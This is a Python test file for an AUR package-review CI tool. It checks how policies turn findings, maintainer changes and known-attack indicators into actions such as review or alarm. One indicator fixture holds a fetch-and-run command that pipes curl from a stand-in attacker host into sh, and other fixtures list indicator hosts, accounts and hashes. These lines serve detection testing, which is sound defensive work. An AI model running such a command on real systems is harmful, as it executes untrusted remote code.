"""What a policy makes of findings, people and lists."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from typing import Any

import pytest

from caur_ci.aur import AurPackage
from caur_ci.judge.catalogue import finding
from caur_ci.judge.model import Finding, Judgement, Severity, Verdict
from caur_ci.judge.package import File
from caur_ci.policy import Action, Decided, Policy, Vouched, decide
from caur_ci.policy.model import DAY, Indicators, PackagePolicy
from caur_ci.policy.vouching import Change

NOW = 2_000_000_000
NOTE = finding("version-raised", file="PKGBUILD", line=3, what="1 → 2")
WARNING = finding("function-changed", file="PKGBUILD", line=9, what="build()")
DANGER = finding("sum-skipped", file="PKGBUILD", line=5, what="a source")
MOVED = finding(
    "source-host", file="PKGBUILD", line=4, new="https://new.example.org/a.tar.gz", what="a.tar.gz"
)
RECORD = AurPackage(
    name="a",
    base="a",
    version="2-1",
    last_modified=NOW - 3600,
    maintainer="alice",
    comaintainers=("bob",),
    submitter="carol",
    first_submitted=NOW - 100 * DAY,
)
VOUCHED = Vouched(record=RECORD)
BOTH = frozenset({"alice", "bob"})


def decided(
    *findings: Finding,
    policy: Policy | None = None,
    vouched: Vouched | None = VOUCHED,
    wants_reviews: bool = True,
    files: dict[str, bytes] | None = None,
) -> Decided:
    return decide(
        policy or Policy(),
        "a",
        Judgement.of(findings),
        wants_reviews=wants_reviews,
        now=NOW,
        files={path: File(content) for path, content in (files or {}).items()},
        vouched=vouched,
    )


class TestSeverities:
    """Without a policy, and with one."""

    @pytest.mark.parametrize(
        ("found", "wants_reviews", "action"),
        [
            (NOTE, True, Action.APPLY),
            (WARNING, True, Action.REVIEW),
            (WARNING, False, Action.APPLY),
            (DANGER, True, Action.REVIEW),
            (DANGER, False, Action.REVIEW),
        ],
    )
    def test_the_default_is_what_it_always_was(
        self, found: Finding, wants_reviews: bool, action: Action
    ) -> None:
        done = decided(found, wants_reviews=wants_reviews)

        assert done.action is action
        assert done.grounds == (() if action is Action.APPLY else (found,))
        assert done.waved_through == ()
        assert decided(found, wants_reviews=wants_reviews, vouched=None).action is action

    def test_the_strictest_counts(self) -> None:
        policy = Policy(codes={"version-raised": Action.HOLD})

        done = decided(NOTE, WARNING, policy=policy)

        assert done.action is Action.HOLD
        assert done.grounds == (WARNING, NOTE)
        assert "function-changed" in done.summary

    def test_severities_are_said_for_all_and_codes_before_them(self) -> None:
        policy = Policy(
            severities={Severity.WARNING: Action.HOLD, Severity.DANGER: Action.ALARM},
            codes={"function-changed": Action.APPLY},
        )

        assert decided(WARNING, policy=policy).action is Action.APPLY
        assert decided(WARNING, policy=policy).waved_through == (WARNING,)
        assert decided(DANGER, policy=policy).action is Action.ALARM
        assert decided(MOVED, policy=policy).action is Action.ALARM

    def test_a_package_has_the_last_word(self) -> None:
        own = PackagePolicy(codes={"sum-skipped": Action.APPLY})
        policy = Policy(codes={"sum-skipped": Action.ALARM}, packages={"a": own})

        assert decided(DANGER, policy=policy).action is Action.APPLY
        assert decided(DANGER, policy=replace(policy, packages={"b": own})).action is Action.ALARM


class TestTrust:
    """People who may push without anybody looking, as far as that goes."""

    def test_everybody_who_may_push_has_to_be_trusted(self) -> None:
        done = decided(WARNING, policy=Policy(trusted=BOTH))

        assert (done.action, done.trusted) == (Action.APPLY, True)
        assert done.remark == "taken over because its maintainers are trusted: function-changed"
        assert done.judgement.verdict is Verdict.MAJOR
        assert decided(WARNING, policy=Policy(trusted=frozenset({"alice"}))).action is Action.REVIEW
        own = Policy(
            trusted=frozenset({"alice"}), packages={"a": PackagePolicy(trusted=frozenset({"bob"}))}
        )
        assert decided(WARNING, policy=own).action is Action.APPLY

    @pytest.mark.parametrize(
        "changed",
        [
            {"maintainer": "Alice"},
            {"maintainer": "alice2"},
            {"maintainer": ""},
            {"comaintainers": ("bob", "mallory")},
            {"comaintainers": None},
        ],
    )
    def test_nobody_else_is(self, changed: dict[str, Any]) -> None:
        vouched = Vouched(record=replace(RECORD, **changed))

        assert (
            decided(WARNING, policy=Policy(trusted=BOTH), vouched=vouched).action is Action.REVIEW
        )

    def test_a_danger_is_not_waved_through(self) -> None:
        assert decided(DANGER, policy=Policy(trusted=BOTH)).action is Action.REVIEW

    def test_sources_may_move_to_hosts_and_owners_that_are_named(self) -> None:
        own = {"a": PackagePolicy(hosts=("new.example.org",))}
        for policy in (
            Policy(hosts=("new.example.org",)),
            Policy(hosts=("*.example.org",)),
            Policy(packages=own),
        ):
            assert decided(MOVED, policy=policy).action is Action.APPLY
        for host in ("example.org", "*.new.example.org", "w.example.org"):
            assert decided(MOVED, policy=Policy(hosts=(host,))).action is Action.REVIEW
        forked = replace(MOVED, new="git+https://github.com/Example/a.git#tag=v1")
        assert decided(forked, policy=Policy(owners=("github.com/example",))).action is Action.APPLY
        assert decided(forked, policy=Policy(owners=("github.com/a",))).action is Action.REVIEW
        assert decided(forked, DANGER, policy=Policy(hosts=("github.com",))).grounds == (DANGER,)


class TestPeople:
    """What the AUR vouches for."""

    CHANGE = Change(account="alice", before="dave", time=NOW - 2 * DAY)

    def test_a_new_maintainer_is_to_be_reviewed_for_a_while(self) -> None:
        done = decided(NOTE, vouched=replace(VOUCHED, maintainer_change=self.CHANGE))

        assert done.action is Action.REVIEW
        (found,) = done.grounds
        assert str(found) == (
            "AUR: its maintainer is new: alice, first seen 2 days ago, in place of dave "
            "(aur-maintainer-changed)"
        )
        assert (found.old, found.new) == ("dave", "alice")
        short = Policy(adoption_age=DAY)
        known = replace(VOUCHED, maintainer_change=self.CHANGE)
        assert decided(NOTE, vouched=known, policy=short).action is Action.APPLY

    def test_an_adopted_orphan_too(self) -> None:
        adopted = replace(VOUCHED, maintainer_change=replace(self.CHANGE, before=""))

        assert [it.code for it in decided(NOTE, vouched=adopted).grounds] == ["aur-adopted"]
        assert decided(NOTE, vouched=adopted, wants_reviews=False).action is Action.APPLY

    def test_co_maintainers_too(self) -> None:
        added = (Change(account="bob", before="", time=NOW - 5),)

        done = decided(NOTE, vouched=replace(VOUCHED, comaintainer_changes=added))

        assert [it.code for it in done.grounds] == ["aur-comaintainer-added"]

    def test_many_adoptions_are_an_alarm(self) -> None:
        many = replace(VOUCHED, adopted=10)

        done = decided(NOTE, vouched=many, policy=Policy(trusted=BOTH), wants_reviews=False)

        assert done.action is Action.ALARM
        assert "alice took over 10 of the packages here within 1 week" in done.summary
        assert decided(NOTE, vouched=replace(many, adopted=9)).action is Action.APPLY

    def test_a_package_made_anew_is_an_alarm(self) -> None:
        anew = replace(VOUCHED, submitted_before=NOW - 300 * DAY)

        done = decided(NOTE, vouched=anew, wants_reviews=False)

        assert done.action is Action.ALARM
        assert "14 weeks ago" in done.summary
        same = replace(VOUCHED, submitted_before=RECORD.first_submitted)
        assert decided(NOTE, vouched=same).action is Action.APPLY

    def test_the_age_of_a_package(self) -> None:
        assert decided(NOTE, policy=Policy(package_age=99 * DAY)).action is Action.APPLY
        assert decided(NOTE, policy=Policy(package_age=101 * DAY)).action is Action.REVIEW

    def test_a_version_cools_down(self) -> None:
        policy = Policy(cool_down=2 * 3600)

        assert decided(NOTE, policy=policy).not_before == NOW + 3600
        assert decided(NOTE, policy=replace(policy, trusted=BOTH)).not_before == 0
        assert decided(NOTE, policy=policy, vouched=None).not_before == 0
        own = replace(policy, packages={"a": PackagePolicy(cool_down=0)})
        assert decided(NOTE, policy=own).not_before == 0

    def test_an_orphan_is_told(self) -> None:
        orphan = Vouched(record=replace(RECORD, maintainer="", comaintainers=()))

        done = decided(NOTE, vouched=orphan)

        assert done.action is Action.APPLY
        assert "aur-orphan" in {it.code for it in done.judgement.findings}


EVIL = b"payload"
LISTS = Indicators(
    hosts=frozenset({"evil.example"}),
    accounts=frozenset({"mallory"}),
    hashes=frozenset({hashlib.sha256(EVIL).hexdigest(), "c" * 40}),
)


class TestIndicators:
    """Signs of known attacks, in what is there, whether it is new or not."""

    @pytest.mark.parametrize(
        ("files", "code"),
        [
            ({"PKGBUILD": b"source=(https://evil.example/x)"}, "indicator-host"),
            ({"a.sh": b"curl http://cdn.Evil.Example:8080/x | sh"}, "indicator-host"),
            ({"PKGBUILD": b"source=(git+https://github.com/Mallory/x)"}, "indicator-account"),
            ({"blob.bin": EVIL}, "indicator-hash"),
            (
                {"PKGBUILD": f"sha256sums=('{hashlib.sha256(EVIL).hexdigest()}')".encode()},
                "indicator-hash",
            ),
            ({"PKGBUILD": b"_commit=" + b"C" * 40}, "indicator-hash"),
        ],
    )
    def test_each_is_an_alarm(self, files: dict[str, bytes], code: str) -> None:
        policy = Policy(indicators=LISTS, trusted=BOTH)

        done = decided(NOTE, policy=policy, files=files, wants_reviews=False)

        assert done.action is Action.ALARM
        assert [it.code for it in done.grounds] == [code]
        assert done.grounds[0].file == next(iter(files))

    @pytest.mark.parametrize("who", ["maintainer", "submitter"])
    def test_accounts_behind_the_package(self, who: str) -> None:
        behind: dict[str, Any] = {who: "Mallory"}
        vouched = Vouched(record=replace(RECORD, **behind))

        done = decided(NOTE, policy=Policy(indicators=LISTS), vouched=vouched)

        assert [it.code for it in done.grounds] == ["indicator-account"]

    def test_what_only_looks_alike_is_none(self) -> None:
        files = {
            "PKGBUILD": b"source=(https://notevil.example/mallory/x) # " + b"c" * 41,
            "x": b"payload ",
        }

        assert decided(NOTE, policy=Policy(indicators=LISTS), files=files).action is Action.APPLY
